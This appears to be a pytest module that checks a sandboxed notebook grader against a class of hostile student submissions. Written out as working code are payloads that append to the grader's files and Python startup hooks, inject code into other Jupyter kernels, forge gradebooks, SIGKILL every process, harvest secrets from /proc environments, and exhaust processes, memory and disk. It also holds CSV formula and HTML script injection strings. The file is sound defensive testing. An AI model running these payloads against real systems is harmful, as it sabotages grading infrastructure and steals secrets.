"""Grading a hostile class, end to end: one student cannot change another's grade.

A security review graded a folder of honest and hostile submissions with the old grader and found
that one student could change other students' grades. This module builds such a class at test
time from the committed renders (as tests/test_grade.py does): six honest submissions and, for
every class of attack the review found, a hostile one, mostly a solved lesson 00 with one extra
cell of the learner's doing the attack. Each attack cell ends by raising ``HOSTILE-<class> ran:
<what it found>``, which the feedback quotes: proof that it ran, in the sandbox, and what it saw
there. The class is graded in two layers, each by a grader in a process of its own, ``--jobs 2``,
with a secret in its environment:

1. Scan on (the fixture ``scanned``): ``python -m course_teacher.grade``, the class as a teacher
   grades it, with the submissions that only the scan judges (the answers reached through the
   registry, a code object, a forbidden helper; links, pipes and odd names). Code the scan cannot
   read (scan.py: ``os.fork``, ``subprocess``, ``exec``, ``ctypes``, the grading machinery, a module
   the notebook wrote) scores 0 for the teacher's review (REVIEW) before anything runs, with the cell
   named in the feedback; a forbidden function reached scores 0 (FORBIDDEN). The attacks the scan
   lets run (plain file reads and writes, environment reads, filling the disk, killing processes)
   run here as in layer 2, and are contained the same way.
2. Scan off (the fixture ``unscanned``): the same grader with the scan replaced by one that finds
   nothing (``UNSCANNED``), on the honest submissions and every attack: each one runs, its proof is
   in its feedback, and the sandbox alone contains it. The killed graders and the fork bomb beside
   another grader use it too, so that their sleeper and their bomb really run.

Around them, the honest submissions are graded with no attacker among them first (``alone``) and
again last (``later``). (a) The honest submissions' result.json and feedback.md are byte for byte, and their
grades.csv rows line for line, the same in all four runs. (b) Each attacker gets what it deserves,
and its feedback says why. (c) Nothing survives: no process of an attack (each carries a marker in
its argv), no change to the grader's files or to the teacher's HOME, nothing in the output folder
but what the gradebook wrote and the test planted, no temporary folder of the run.
``test_payload_*`` show, outside the sandbox and on targets of the test's own (copies, a kernel of
its own, a victim process), that each payload does what it says, so that the sandbox, not a broken
payload, is what stops it.

Each of these runs is made once per test session, by whichever pytest-xdist worker needs it first
(the other waits for it and reads its result: ``_once``). Skipped where bwrap cannot make a sandbox,
except under CI (``CI`` set), where that fails.
"""

import csv
import fcntl
import hashlib
import io
import json
import os
import pickle
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import uuid
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

import answer_keys
import patience
import pytest
from submissions import answer, exercise_cell, insert, render, save, solved

import course_utils
from course_teacher.grade import gradebook, grader, sandbox, submission
from course_teacher.grade.runner import Kernel
from course_utils.exercises import evaluate

pytestmark = pytest.mark.slow  # left out of `make quick` (the inner loop): see the Makefile

ROOT = Path(__file__).resolve().parent.parent
L00, L01, L02 = "00_tensor_shapes.ipynb", "01_attention_basics.ipynb", "02_masking.ipynb"
# The grader's limits, stretched by the session's calibrated slowness (tests/patience.py; the same number in
# every xdist worker, so that every run of the session grades under the same limits): on a busy machine an
# honest cell must not run out of time. A quiet machine grades with the limits as written.
OPTIONS = ["--jobs", "2", "--cells", "own", "--time-limit", f"{2 * patience.calibrated():g}",
           "--cell-timeout", f"{30 * patience.calibrated():g}"]
# The grader with the scan off: grader.py calls scan.scan (the module's attribute), replaced here by
# one that reads nothing, so that every cell runs (the fixture `unscanned` checks that it took); its
# grading processes are forked from this one (START_METHOD), so that they inherit the change.
UNSCANNED = ("import sys; from course_teacher.grade import grader, scan; grader.START_METHOD = 'fork'; "
             "scan.scan = lambda *args, **kwargs: scan.Findings(); sys.exit(grader.main(sys.argv[1:]))")
# One value per test session, the same in every xdist worker (a run made by one is checked by both).
_SESSION = os.environ.get("PYTEST_XDIST_TESTRUNUID") or uuid.uuid4().hex
RUN = hashlib.sha256(f"run-{_SESSION}".encode()).hexdigest()[:12]
MARK = f"hostile-{RUN}"  # in the argv of every process an attack starts (and in no other)
CLASS_MARK = f"{MARK}-class"  # the class's attacks (the killed graders' have their own)
SECRET = ("COURSE_HOSTILE_SECRET", f"s3cret-{hashlib.sha256(f'secret-{_SESSION}'.encode()).hexdigest()}")
OUTLIVE_S = 15  # class 4 acts this long after the class is built (or when a gradebook is complete)
# The whole class, at most, on a quiet 2-core machine (a grader that blocks on the FIFO fails here); like
# every wait of this module, stretched by the machine's measured slowness (tests/patience.py).
RUN_TIMEOUT_S = 420
AVAILABLE, WHY = sandbox.available()
PASSWD_FIRST = Path("/etc/passwd").read_text(errors="replace").splitlines()[0]


def _sandbox_or_skip():
    if AVAILABLE:
        return
    if os.environ.get("CI"):
        pytest.fail(f"CI must grade in a sandbox, and bwrap cannot make one here: {WHY}")
    pytest.skip(f"no sandbox here: {WHY}")


# ----------------------------------------------------------------------------- notebooks

# ----------------------------------------------------------------------------- the attacks' code

# Helpers every payload has. walk: the files under some folders (no link followed, `depth` deep,
# the system's and Python's own folders skipped); default_roots: where an attacker looks.
COMMON = r'''
import errno, json, os, signal, sys, time

SKIP = {"site-packages", "__pycache__", ".git", ".venv", ".pyenv", "node_modules", "proc", "sys", "dev", "usr",
        "lib", "lib32", "lib64", "bin", "sbin", "etc", "boot", "run", "snap"}


def code_of(error):
    return errno.errorcode.get(error.errno, str(error.errno))


def tally(counts):
    return ",".join(f"{name}={count}" for name, count in sorted(counts.items())) or "none"


def default_roots():
    """The temporary folders, the homes, the work folders, and the folders above this one."""
    roots = ["/tmp", "/var/tmp", "/work", "/root", "/home", "/srv", "/mnt", "/opt", os.path.expanduser("~")]
    here = os.getcwd()
    while os.path.dirname(here) != here:
        here = os.path.dirname(here)
        roots.append(here)
    return roots


def walk(roots, depth=6):
    seen = set()
    for root in roots:
        root = os.path.abspath(root)
        base = len(root.rstrip("/").split("/"))
        for top, folders, files in os.walk(root, onerror=lambda error: None):
            real = os.path.realpath(top)
            if real in seen:
                folders[:] = []
                continue
            seen.add(real)
            level = len(top.rstrip("/").split("/")) - base
            folders[:] = [name for name in folders if name not in SKIP and level < depth]
            for name in files:
                yield os.path.join(top, name)

'''

# The payloads that leave a process behind start with this (os.fork and os.execv: the scan reads
# them, so these attacks run only with the scan off). The cell sets SOURCE, the payload's own text.
DETACH = r'''
def detach(marker, entry, *args):
    """Run entry(*args) of this payload (its text: SOURCE) in a process that outlives the kernel if
    it can: a new session, orphaned by a double fork, `marker` in its argv."""
    line = f"{SOURCE}\n{entry}(*{args!r})"
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", line, marker])
        finally:
            os._exit(0)
    os.wait()
'''

# 1. Append to the grader's files (found through course_utils.__file__, the repository guessed
# from it) and to Python's start-up hooks (in the site-packages sysconfig names), so that every
# later kernel or grader runs it. Plain file writes: the scan lets it run.
GRADER_FILES = r'''
SABOTAGE = "\n# HOSTILE-1: a submission appended this line\n"


def targets(package=None, site_folders=None):
    if package is None:
        import course_utils
        package = os.path.dirname(os.path.abspath(course_utils.__file__))
    repository = os.path.dirname(package)
    paths = [os.path.join(package, "exercises", name) for name in ("kernel.py", "grading.py", "wire.py", "__init__.py")]
    paths += [os.path.join(repository, "course_teacher", "grade", name) for name in
              ("__init__.py", "__main__.py", "grader.py", "runner.py", "sandbox.py", "launch.py", "scan.py",
               "submission.py", "gradebook.py")]
    paths.append(os.path.join(repository, "course_teacher", "exercises", "__init__.py"))
    if site_folders is None:
        import sysconfig
        site_folders = {sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"],
                        os.path.join(os.path.dirname(os.__file__), "site-packages")}
    for folder in site_folders:
        paths += [os.path.join(folder, "sitecustomize.py"), os.path.join(folder, "hostile.pth")]
    return paths


def attack(package=None, site_folders=None):
    written, errors = 0, {}
    for path in targets(package, site_folders):
        try:
            with open(path, "a") as file:
                file.write(SABOTAGE)
            written += 1
        except OSError as error:
            errors[code_of(error)] = errors.get(code_of(error), 0) + 1
    return f"written={written} errors={tally(errors)}"
'''

# 2. An IPython startup file in HOME (and in root's, and IPYTHONDIR's): every later kernel that
# reads it would patch torch, and einsum's and transpose's answers would all be wrong.
STARTUP = r'''
PATCH = ("import torch\ntorch.einsum = lambda *args, **kwargs: torch.zeros(1)\n"
         "torch.Tensor.transpose = lambda self, *args: self\n# HOSTILE-2\n")


def attack(homes=None):
    homes = homes or [os.path.expanduser("~"), "/root", os.path.dirname(os.environ.get("IPYTHONDIR", "/nowhere/x"))]
    written, errors = [], {}
    for home in dict.fromkeys(homes):
        folder = os.path.join(home, ".ipython", "profile_default", "startup")
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "00-hostile-2.py"), "w") as file:
                file.write(PATCH)
            written.append(folder)
        except OSError as error:
            errors[code_of(error)] = errors.get(code_of(error), 0) + 1
    return f"written={len(written)} in {' '.join(written) or 'nothing'} errors={tally(errors)}"
'''

# 3. Find other kernels' connection files (/proc/*/cmdline, the temporary folders, the folders
# above) and run code in them that makes every answer wrong; then keep looking, detached.
INJECT = DETACH + r'''
SABOTAGE = ("import torch\ntorch.einsum = lambda *args, **kwargs: torch.zeros(1)\n"
            "for _name in ('padding_mask', 'scores_einsum', 'split_heads', 'merge_heads', 'my_softmax',\n"
            "              'my_attention', 'my_additive_scores', 'my_causal_mask', 'my_decoder_mask',\n"
            "              'my_masked_softmax'):\n"
            "    globals()[_name] = lambda *args, **kwargs: None\nHOSTILE_3_INJECTED = True\n")


def own_connection():
    """The connection file of the kernel this runs in (ipykernel's -f), or None."""
    with open("/proc/self/cmdline", "rb") as file:
        argv = file.read().split(b"\0")
    return next((os.path.abspath(argv[i + 1].decode()) for i, a in enumerate(argv[:-1]) if a == b"-f"), None)


def connection_files(roots, proc=True, own=None):
    found = set()
    for pid in os.listdir("/proc") if proc else ():
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                argv = file.read().split(b"\0")
        except OSError:
            continue
        for index, argument in enumerate(argv[:-1]):
            if argument == b"-f":
                found.add(argv[index + 1].decode(errors="replace"))
    for path in walk(roots):
        name = os.path.basename(path)
        if name.endswith(".json") and ("kernel" in name or "connection" in name):
            found.add(path)
    return {os.path.abspath(path) for path in found} - {own}


def inject(path, code=SABOTAGE, timeout=5):
    from jupyter_client import BlockingKernelClient

    with open(path) as file:
        info = json.load(file)
    client = BlockingKernelClient()
    client.load_connection_info(info)
    client.start_channels()
    try:
        message = client.execute(code)
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            reply = client.get_shell_msg(timeout=timeout)
            if reply["parent_header"].get("msg_id") == message:
                return reply["content"]["status"]
        return "timeout"
    finally:
        client.stop_channels()


def attack(roots=None, marker=None, seconds=20, code=SABOTAGE, proc=True):
    own = own_connection()
    others = sorted(connection_files(roots or default_roots(), proc, own))
    outcomes = {}
    for path in others:
        try:
            outcomes[path] = inject(path, code)
        except Exception as error:
            outcomes[path] = type(error).__name__
    if marker:
        detach(marker, "keep_injecting", seconds, own)
    return f"others={len(others)} injected={sum(v == 'ok' for v in outcomes.values())}"


def keep_injecting(seconds, own):
    end, done = time.time() + seconds, set()
    while time.time() < end:
        for path in connection_files(default_roots(), True, own) - done:
            done.add(path)
            try:
                inject(path)
            except Exception:
                pass
        time.sleep(0.5)
'''

# 4. Outlive the grader, then rewrite every gradebook it finds: from `until` on (a time fixed when
# the class was built), or as soon as a gradebook's manifest says its run is complete.
OUTLIVE = DETACH + r'''
FORGED = {"grades.csv": "student,lesson,exercise,status,mistake,points,max_points,submission,review\n"
                        "HOSTILE-4,00,00.padding_mask,passed,,999,1,x,\n",
          "result.json": '{"schema": "classroom50/result/v1", "score": 999, "max-score": 1, "tests": []}\n',
          "feedback.md": "# HOSTILE-4 was here\n"}


def rewrite(roots):
    done = 0
    for path in walk(roots):
        name = os.path.basename(path)
        if name in FORGED:
            try:
                with open(path) as file:
                    if file.read() == FORGED[name]:
                        continue
                with open(path, "w") as file:
                    file.write(FORGED[name])
                done += 1
            except OSError:
                pass
    return done


def complete(roots):
    for path in walk(roots):
        if os.path.basename(path) == ".gradebook.json":
            try:
                with open(path) as file:
                    if json.load(file).get("complete") is True:
                        return True
            except (OSError, ValueError):
                pass
    return False


def outlive(until, last, roots=None):
    roots = roots or default_roots()
    while True:
        if time.time() >= until or complete(roots):
            rewrite(roots)
        if time.time() >= last:
            return
        time.sleep(0.5)


def attack(until, last, marker=None, roots=None):
    found = sum(os.path.basename(path) in FORGED for path in walk(roots or default_roots()))
    if marker:
        detach(marker, "outlive", until, last, roots)
    return f"gradebook_files_seen={found}"
'''

# 5. Write the old fork server's message to every process's stdout, then SIGKILL every process and
# process group it sees, and everything it may (kill -1); with me_too, itself last.
KILL = r'''
def attack(pids=None, everything=True, me_too=False):
    me = os.getpid()
    pids = [pid for pid in pids or [int(p) for p in os.listdir("/proc") if p.isdigit()] if pid != me]
    wrote = killed = groups = 0
    errors = {}

    def failed(error):
        errors[code_of(error)] = errors.get(code_of(error), 0) + 1

    for pid in pids:
        try:
            with open(f"/proc/{pid}/fd/1", "w") as file:
                file.write(json.dumps({"pid": me}) + "\n")
            wrote += 1
        except OSError as error:
            failed(error)
    for pid in pids:
        try:
            group = os.getpgid(pid)
            if group not in (0, os.getpgid(0)):
                os.killpg(group, signal.SIGKILL)
                groups += 1
        except OSError as error:
            failed(error)
        try:
            os.kill(pid, signal.SIGKILL)
            killed += 1
        except OSError as error:
            failed(error)
    everyone = "not tried"
    if everything:
        try:
            os.kill(-1, signal.SIGKILL)  # every process this one may signal, but itself
            everyone = "sent"
        except OSError as error:
            everyone = code_of(error)
    if me_too:
        os.kill(me, signal.SIGKILL)
    return f"pids={len(pids)} wrote={wrote} killed={killed} groups={groups} kill_all={everyone} errors={tally(errors)}"
'''

# 6. Read every environment it can see (/proc/*/environ, /proc/*/cmdline, its own) for secrets.
ENVIRON = r'''
WORDS = ("SECRET", "TOKEN", "KEY", "PASS")


def attack(words=WORDS):
    # what the kernel was given itself (OMP_WAIT_POLICY=PASSIVE under make test, and bwrap's own
    # command line, pid 1 here, which sets it) is no one else's secret
    own = {f"{k}={v}" for k, v in os.environ.items()} | set(os.environ) | set(os.environ.values())
    found, seen = [], 0
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    items = file.read().decode(errors="replace").split("\0")
            except OSError:
                continue
            seen += 1
            found += [item for item in items if item not in own and any(word in item.upper() for word in words)]
    found += [f"{k}={v}" for k, v in os.environ.items() if any(word in k.upper() for word in words)]
    return f"read={seen} found={';'.join(sorted(set(found))) or 'none'}"
'''

# 7. The references, from the teacher's package or from the old student zip's private module.
REFERENCES = r'''
def stolen(exercise, stub):
    reasons = []
    try:
        from course_teacher.exercises import EXERCISES
        return EXERCISES[exercise].reference
    except Exception as error:
        reasons.append(f"course_teacher={type(error).__name__}")
    try:
        from course_utils.exercises.l06_transformer import _masks_reference
        return _masks_reference
    except Exception as error:
        reasons.append(f"private={type(error).__name__}")
    raise RuntimeError("HOSTILE-7 ran: " + " ".join(reasons))
'''

# 8. The solutions and the other students' notebooks on disk (the repository guessed from
# course_utils, the grader's command line in /proc, the folders around), and IPython's history.
SOLUTIONS = r'''
def repository():
    import course_utils
    return os.path.dirname(os.path.dirname(os.path.abspath(course_utils.__file__)))


def find(roots=None, home=None, proc=True):
    found = {"solutions": [], "notebooks": [], "history": [], "graders": []}
    roots = list(roots) if roots else default_roots()
    for lang in ("en", "zh"):  # (each language names its notebooks its own way: 00_*)
        folder = os.path.join(repository(), "notebooks", "solutions", lang)
        for name in sorted(os.listdir(folder)) if os.path.isdir(folder) else []:
            if name.startswith("00_") and name.endswith(".ipynb"):
                found["solutions"].append(os.path.join(folder, name))
    for pid in os.listdir("/proc") if proc else ():
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                argv = [a.decode(errors="replace") for a in file.read().split(b"\0")]
        except OSError:
            continue
        if any("course_teacher" in a for a in argv):
            found["graders"].append(pid)
            roots += [a for a in argv if os.path.isdir(a)]
    for path in walk(roots + [repository()]):
        if path.endswith(".ipynb") and path not in found["solutions"]:
            found["notebooks"].append(path)
    history = os.path.join(home or os.path.expanduser("~"), ".ipython", "profile_default", "history.sqlite")
    if os.path.isfile(history):
        import sqlite3
        with sqlite3.connect(history) as db:
            found["history"] = [row[0] for row in db.execute("SELECT source FROM history")]
    return found


def stolen(exercise, stub, roots=None, home=None, proc=True):
    found = find(roots, home, proc)
    for path in found["solutions"] + found["notebooks"]:
        try:
            with open(path) as file:
                cells = json.load(file)["cells"]
        except (OSError, ValueError, KeyError, TypeError):
            continue
        for cell in cells:
            if isinstance(cell, dict) and cell.get("metadata", {}).get("exercise") == exercise:
                namespace = {}
                exec("import torch\n" + "".join(cell["source"]), namespace)
                if callable(namespace.get(stub.__name__)):
                    return namespace[stub.__name__]
    raise RuntimeError(f"HOSTILE-8 ran: solutions={len(found['solutions'])} notebooks={len(found['notebooks'])} "
                       f"history={len(found['history'])} graders={len(found['graders'])}")
'''

# The kill tests: a process that would outlive the kernel, then a cell that takes its time.
SLEEPER = DETACH + r'''
def sleep(seconds):
    time.sleep(seconds)


def attack(marker, seconds=120, hold=6):
    detach(marker, "sleep", seconds)
    time.sleep(hold)
    return "detached"
'''

# 11. Resources: processes until the process limit (each busy), memory in several processes, every
# folder it may write filled (each a size-capped memory file system, or read-only), and answer
# files planted as a link or a pipe.
FORK_BOMB = r'''
def attack(limit=400, busy=1.0):
    read, write = os.pipe()
    children, error = [], "none"
    try:
        while len(children) < limit:
            pid = os.fork()
            if pid == 0:  # waits until every child is born, then spins
                os.close(write)
                os.read(read, 1)
                end = time.monotonic() + busy
                while time.monotonic() < end:
                    pass
                os._exit(0)
            children.append(pid)
    except OSError as failed:
        error = code_of(failed)
    os.close(write)
    os.close(read)
    for pid in children:
        os.waitpid(pid, 0)
    return f"children={len(children)} error={error}"
'''

MEMORY = r'''
def attack(processes=4, megabytes=512, hold=1.5):
    children = []
    for _ in range(processes):
        pid = os.fork()
        if pid == 0:
            try:
                block = b"\1" * (megabytes * 2**20)  # written, so resident
                time.sleep(hold)
                os._exit(0 if len(block) else 1)
            except MemoryError:
                os._exit(3)
        children.append(pid)
    codes = [os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in children]
    return f"processes={processes} each={megabytes}MB exit_codes={codes}"
'''

DISK = r'''
def exchange():
    """The folder of this kernel's connection file (ipykernel's -f), or None."""
    with open("/proc/self/cmdline", "rb") as file:
        argv = file.read().split(b"\0")
    return next((os.path.dirname(os.path.abspath(argv[i + 1].decode())) for i, a in enumerate(argv[:-1])
                 if a == b"-f"), None)


def writable():
    """The folders a kernel may write: its working folder, HOME, /tmp, /dev/shm and its exchange folder."""
    folders = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", exchange()]
    return list(dict.fromkeys(folder for folder in folders if folder))


def fill(folder, limit):
    written, error, index = 0, "none", 0
    chunk = b"x" * 2**24
    try:
        while written < limit:
            with open(os.path.join(folder, f"fill-{index}.bin"), "wb") as file:
                for _ in range(3):  # 48 MB a file: under the kernel's file-size limit
                    written += file.write(chunk)
            index += 1
    except OSError as failed:
        error = code_of(failed)
    return written, error


def attack(folders=None, limit=2 * 256 * 2**20):
    """Fill each folder, then free the exchange folder again: this notebook's own grading needs it (the
    grader's calls and the kernel's answers), and kept full it fails only that (GRADER_ERROR)."""
    report = " ".join(f"{folder}={written // 2**20}MB:{error}" for folder in folders or writable()
                      for written, error in [fill(folder, limit)])
    for name in os.listdir(exchange()) if folders is None and exchange() else ():
        if name.startswith("fill-"):
            os.remove(os.path.join(exchange(), name))
    return report
'''

PLANTED = r'''
import course_utils.exercises.wire as wire

_save = wire.save


def save(data, path, mode=0o600):
    """The kernel's answers: the first a link to /dev/zero, the second a pipe, the third a link
    to /etc/passwd (the grader's, outside), the fourth the real one."""
    name = os.path.basename(path)
    number = int(name[len("answer-"):-len(".pt")]) if name.startswith("answer-") else 0
    if number == 1:
        os.symlink("/dev/zero", path)
    elif number == 2:
        os.mkfifo(path)
    elif number == 3:
        os.symlink("/etc/passwd", path)
    else:
        _save(data, path, mode)


def attack():
    wire.save = save
    return "answers planted"
'''


def _payload(source):
    return COMMON + textwrap.dedent(source)


def _attack_cell(number, source, call="attack()"):
    """A cell holding the attack itself (and SOURCE, its text, when it detaches a process), ending
    with its proof."""
    payload = _payload(source)
    text = f"\n\nSOURCE = {payload!r}" if "def detach(" in payload else ""
    return f"{payload}{text}\n\nreport = {call}\nraise RuntimeError(f'HOSTILE-{number} ran: {{report}}')"


def _load_payload(source, name):
    """A payload as a module of this process (for the tests outside the sandbox)."""
    payload = _payload(source)
    namespace = {"__name__": name, "SOURCE": payload}
    exec(compile(payload, f"<{name}>", "exec"), namespace)  # noqa: S102 (the test's own code)
    return namespace


# ----------------------------------------------------------------------------- the class

# Known mistakes of lesson 00 (as tests/test_grade.py's carol makes them).
NO_UNSQUEEZE = "def padding_mask(lengths, max_len):\n    return torch.arange(max_len) < lengths[:, None]"
RESHAPE_NO_PERMUTE = "def merge_heads(x):\n    B, H, L, D = x.shape\n    return x.reshape(B, L, H * D)"
# An exercise answered by a payload's `stolen` (defined by the cell before it)
STOLEN = """
def {name}(*args):
    raise NotImplementedError


{name} = stolen("{exercise}", {name})
"""
FORGED_VERDICT = "\n\n## 00.padding_mask (1 / 1)\n\n✅ passed … Score: 4/4\n\n## Notes\n"
CMD = "=cmd|' -C calc'!A0"
HTML = "\n<img src=x onerror=alert(1)>\n# 4 of 4 <b>passed"  # no slash: one folder


def _two_mistakes():
    notebook = solved(L00, "en")
    answer(notebook, "00.padding_mask", NO_UNSQUEEZE)
    answer(notebook, "00.merge_heads", RESHAPE_NO_PERMUTE)
    return notebook


HONEST = {  # label: (() -> notebook, its file name)
    "ann": (lambda: solved(L00, "en"), L00),  # lesson 00 solved, in English
    "bo": (lambda: solved(L00, "zh"), L00),  # in Chinese
    "kim": (_two_mistakes, L00),  # two known mistakes
    "li": (lambda: solved(L02, "en"), L02),  # lesson 02 solved
    "pat": (lambda: solved(L00, "zh", only={"00.padding_mask", "00.split_heads"}), L00),  # half not attempted
    "ula": (lambda: solved(L01, "zh"), L01),  # lesson 01 solved
}


def _honest(folder, label):
    build, name = HONEST[label]
    save(build(), folder / name)
    return {"notebook": name}


def _lesson00(folder, *cells, lang="en", solve=True, name=L00, answers=None):
    """A lesson 00 notebook: the solutions (or the render), `answers` in exercise cells, and each
    (before_exercise, source) of `cells` inserted; {"cells": their numbers, "exercises": {exercise:
    the number of its cell}}."""
    notebook = solved(L00, lang) if solve else render(L00, lang)
    for exercise, source in (answers or {}).items():
        answer(notebook, exercise, source)
    numbers = [insert(notebook, before, source) for before, source in cells]
    numbers = [n + sum(1 for other in numbers[i + 1:] if other <= n) for i, n in enumerate(numbers)]
    save(notebook, folder / name)
    exercises = {c.metadata["exercise"]: i + 1 for i, c in enumerate(notebook.cells) if c.metadata.get("exercise")}
    return {"cells": numbers, "exercises": exercises, "notebook": name}


# The attacks, graded in both layers.

def _h01(folder, facts):
    return _lesson00(folder, ("00.padding_mask", _attack_cell(1, GRADER_FILES)))


def _h02(folder, facts):  # the startup file, then a cell that kills the kernel: the next kernel must not read it
    return _lesson00(folder, ("00.padding_mask", _attack_cell(2, STARTUP)),
                     ("00.scores_einsum", "import os\n\nos._exit(0)"))


def _h03(folder, facts):
    return _lesson00(folder, ("00.padding_mask", _attack_cell(3, INJECT, f"attack(marker={CLASS_MARK + '-3'!r})")))


def _h04(folder, facts):
    call = f"attack({facts['until']!r}, {facts['last']!r}, marker={CLASS_MARK + '-4'!r})"
    return _lesson00(folder, ("00.padding_mask", _attack_cell(4, OUTLIVE, call)))


def _h05(folder, facts):
    return _lesson00(folder, ("00.padding_mask", _attack_cell(5, KILL)),
                     ("00.scores_einsum", _attack_cell(5, KILL, "attack(me_too=True)")))


def _h06(folder, facts):  # and its padding_mask raises with the whole environment it sees
    leak = ("def padding_mask(lengths, max_len):\n    import os\n\n"
            "    raise RuntimeError(' '.join(f'{k}={v}' for k, v in sorted(os.environ.items())))")
    return _lesson00(folder, ("00.padding_mask", _attack_cell(6, ENVIRON)), answers={"00.padding_mask": leak})


def _h07_reach(folder, facts):  # the registry, or the old private reference, from the sandbox
    return _lesson00(folder, ("00.padding_mask", _payload(REFERENCES)),
                     answers={"00.padding_mask": STOLEN.format(name="padding_mask", exercise="00.padding_mask")})


def _h08(folder, facts):  # the solutions, other notebooks, IPython's history
    return _lesson00(folder, ("00.padding_mask", _payload(SOLUTIONS)), solve=False,
                     answers={"00.padding_mask": STOLEN.format(name="padding_mask", exercise="00.padding_mask")})


def _h11_fork(folder, facts):
    return _lesson00(folder, ("00.padding_mask", _attack_cell("11-fork", FORK_BOMB)))


def _h11_memory(folder, facts):
    return _lesson00(folder, ("00.padding_mask", _attack_cell("11-memory", MEMORY)))


def _h11_disk(folder, facts):
    return _lesson00(folder, ("00.padding_mask", _attack_cell("11-disk", DISK)))


def _h11_answers(folder, facts):
    return _lesson00(folder, ("00.padding_mask", _attack_cell("11-answers", PLANTED)))


# What only the scan judges (graded with the scan on only).

def _h07_registry(folder, facts):
    return _lesson00(folder, answers={"00.padding_mask": """
        from course_teacher.exercises import EXERCISES


        def padding_mask(lengths, max_len):
            return EXERCISES["00.padding_mask"].reference(lengths, max_len)
    """})


def _h07_importlib(folder, facts):
    return _lesson00(folder, answers={"00.padding_mask": """
        import importlib


        def padding_mask(lengths, max_len):
            registry = importlib.import_module("course_" + "teacher.exer" + "cises")
            return getattr(registry, "EXER" + "CISES")["00.padding_mask"].reference(lengths, max_len)
    """})


def _h07_code(folder, facts):
    return _lesson00(folder, answers={"00.split_heads": """
        from course_utils import multihead


        def split_heads(x, num_heads):
            raise NotImplementedError


        split_heads.__code__ = multihead.split_heads.__code__
    """})


def _h07_disable(folder, facts):  # the watcher off, a forbidden course function called; and one called plainly
    return _lesson00(folder, answers={"00.merge_heads": """
        import torch
        from course_utils import multihead


        def merge_heads(x):
            with torch._C.DisableTorchFunction():
                return multihead.merge_heads(x)
    """, "00.split_heads": """
        from course_utils import multihead


        def split_heads(x, num_heads):
            return multihead.split_heads(x, num_heads)
    """})


def _h07_helpers(folder, facts):  # lesson 02's own helpers where its exercises forbid them
    notebook = solved(L02, "en")
    answer(notebook, "02.causal_mask", "def my_causal_mask(L_q, L_k):\n    return masks.causal_mask(L_q, L_k)")
    answer(notebook, "02.masked_softmax", "def my_masked_softmax(scores, keep):\n"
                                           "    return masks.masked_softmax(scores, keep)")
    save(notebook, folder / L02)
    return {"notebook": L02}


def _h07_private(folder, facts):
    return _lesson00(folder, ("00.padding_mask", "from course_utils.exercises.l06_transformer import _masks_reference"))


def _h09_link_solution(folder, facts):
    folder.mkdir(parents=True)
    os.symlink(ROOT / "notebooks" / "solutions" / "en" / L00, folder / L00)
    return {}


def _h09_link_student(folder, facts):
    folder.mkdir(parents=True)
    os.symlink(f"../{facts['ann']}/{L00}", folder / L00)
    return {}


def _h09_as_lesson_06(folder, facts):
    save(solved(L00, "en"), folder / "06_transformer.ipynb")
    return {}


def _h09_result_json(folder, facts):  # a notebook named result.json in the folder named like another's result
    save(solved(L00, "en"), folder.parent / f"{folder.name}.ipynb")
    save(solved(L00, "zh"), folder / "result.json.ipynb")
    return {}


def _h09_fifo(folder, facts):
    folder.mkdir(parents=True)
    os.mkfifo(folder / "x.ipynb")
    return {}


def _h09_dev_zero(folder, facts):
    folder.mkdir(parents=True)
    os.symlink("/dev/zero", folder / L00)
    return {}


def _h09_passwd(folder, facts):
    folder.mkdir(parents=True)
    os.symlink("/etc/passwd", folder / L00)
    return {}


def _h10_formula(folder, facts):
    return _lesson00(folder)


def _h10_forged(folder, facts):
    forged = f"def padding_mask(lengths, max_len):\n    raise ValueError({FORGED_VERDICT!r})"
    return _lesson00(folder, answers={"00.padding_mask": forged})


def _h12_subprocess(folder, facts):
    return _lesson00(folder, ("00.padding_mask", f"""
        import subprocess, sys

        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)", {CLASS_MARK + '-12'!r}],
                         start_new_session=True)
    """))


def _h12_ctypes(folder, facts):
    return _lesson00(folder, ("00.padding_mask", "import ctypes\n\nctypes.CDLL(None).kill(-1, 9)"))


def _h12_module(folder, facts):  # a module written in HOME, put on the import path and imported
    return _lesson00(folder, ("00.padding_mask", """
        import os, sys

        with open(os.path.expanduser("~/helpers.py"), "w") as file:
            file.write("import os\\nos.kill(-1, 9)\\n")
        sys.path.insert(0, os.path.expanduser("~"))
        import helpers
    """))


# The class, in the order its folders sort: the honest ones spread among the hostile ones, so that
# each honest submission is graded beside attacks. label -> builder (honest: a key of HONEST).
CLASS = [
    ("ann", None), ("h01-grader-files", _h01), ("h02-startup", _h02), ("h03-inject", _h03), ("bo", None),
    ("h04-outlive", _h04), ("h05-kill", _h05), ("h06-environ", _h06), ("kim", None), ("h07-registry", _h07_registry),
    ("h07-importlib", _h07_importlib), ("h07-code-object", _h07_code), ("h07-disable", _h07_disable),
    ("h07-helpers", _h07_helpers), ("h07-private", _h07_private), ("h07-reach", _h07_reach), ("li", None),
    ("h08-solutions", _h08), ("h09-link-solution", _h09_link_solution), ("h09-link-student", _h09_link_student),
    ("h09-lesson-06", _h09_as_lesson_06), ("h09-result", _h09_result_json), ("pat", None), ("h09-fifo", _h09_fifo),
    ("h09-dev-zero", _h09_dev_zero), ("h09-passwd", _h09_passwd), ("h11-fork-bomb", _h11_fork), ("ula", None),
    ("h11-memory", _h11_memory), ("h11-disk", _h11_disk), ("h11-answers", _h11_answers),
    ("h12-subprocess", _h12_subprocess), ("h12-ctypes", _h12_ctypes), ("h12-module", _h12_module),
]
# Folders named by the attack itself (they sort where they sort).
NAMED = [(CMD, _h10_formula), (HTML, _h10_forged)]
